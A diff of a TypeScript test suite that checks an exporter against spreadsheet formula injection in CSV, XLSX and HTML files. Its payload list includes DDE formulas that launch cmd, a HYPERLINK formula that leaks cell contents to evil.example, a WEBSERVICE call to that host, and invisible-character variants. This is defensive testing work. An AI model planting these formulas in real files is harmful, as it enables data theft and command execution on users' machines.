@@ -15,11 +15,15 @@ const columns: FileColumn<Row>[] = [
 /** What a spreadsheet would run. */
 const FORMULAS = [
   '=1+1', '=cmd|\'/c calc\'!A1', '=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '+2348031234567x', '-1+1', '-2+3', '@SUM(A1:A2)', '=WEBSERVICE("http://evil.example")', '\t=1+1', '\r=1+1', '\n=1+1',
+  ' =1+1', '\u0000=1+1', '\u0001\u0002@SUM(A1)', '\u0007+1+1', '\ufeff=1+1', '\u200b=1+1', '\u202e=1+1', "'=1+1", ';=1+1', '\t\t=1+1', ';\t-1+1',
   '=1+1";=2+2', '="a"&"b"', '＝1+1', '=DDE("cmd";"/c calc";"x")', '=A1',
 ];
 /** What it would change. */
 const NUMBERS = ['08031234567', '00000000000', '12345678901234567890', '00112233445566778899', '1111111111111', '0101010101010', '1e5', '5E12', '2026-10', '1/2', '12.50', '1,000', '10:30', '007', '3.10', 'October 2026', 'May-5', 'TRUE', 'false'];
 const TEXTS = ['Ada', 'a "b", c', 'two\nlines', ' spaces ', '₦1,500 Ünïcode 你好 👍', 'semi;colon', "O'Brien", 'x'.repeat(300), '<b>&amp;</b>', 'Marchers 12', 'Truest', '_x0041_'];
+
+/** A text without the signs that are not shown, and without the apostrophes that keep it text. */
+const lettersOf = (text: string) => text.replace(/[\s\p{Cc}\p{Cf}\ufffd']/gu, '');
 
 async function write(kind: string, rows: Row[]): Promise<Uint8Array> {
   async function* batches() {
@@ -42,9 +46,18 @@ describe('R10: what a spreadsheet does to our files', () => {
     expect(cells).toHaveLength(FORMULAS.length);
     cells.forEach(({ type, value }, index) => {
       expect([FORMULAS[index], type]).toEqual([FORMULAS[index], 'string']);
-      const kept = kind === 'xlsx' || kind === 'html' ? FORMULAS[index]! : `'${FORMULAS[index]}`;
-      expect(value.replace(/\s+/g, ' ').trim()).toBe(kept.replace(/\s+/g, ' ').trim());
+      if (kind === 'csv' || kind === 'txt') expect([FORMULAS[index], value[0]]).toEqual([FORMULAS[index], FORMULAS[index]![0] === ';' ? ';' : "'"]);
+      expect(lettersOf(value)).toBe(lettersOf(FORMULAS[index]!));
     });
+  });
+
+  it.each([';', '\t'])('runs nothing where cells are separated by %j', { timeout: 120_000 }, async (separator) => {
+    const rows = FORMULAS.flatMap((formula) => [{ text: formula }, { text: `Ada${separator}${formula}` }, { text: `Ada "x"${separator} ${formula}` }, { text: `Ada, Ltd\n${formula}` }]);
+    const cells = openInLibreOffice(await write('csv', rows), 'csv', separator).flat();
+    const run = cells.filter(({ type, value }) => type !== 'string' && type !== 'empty' && !/^[\d,. ]*$/.test(value));
+    expect(run).toEqual([]);
+    expect(cells.filter(({ value }) => /^[\s"]*[=+@-]/.test(value))).toEqual([]);
+    expect(cells.length).toBeGreaterThan(rows.length);
   });
 
   it.each(['csv', 'xlsx', 'html'] as const)('loses no digit of a phone, a meter or a token in %s', { timeout: 120_000 }, async (kind) => {
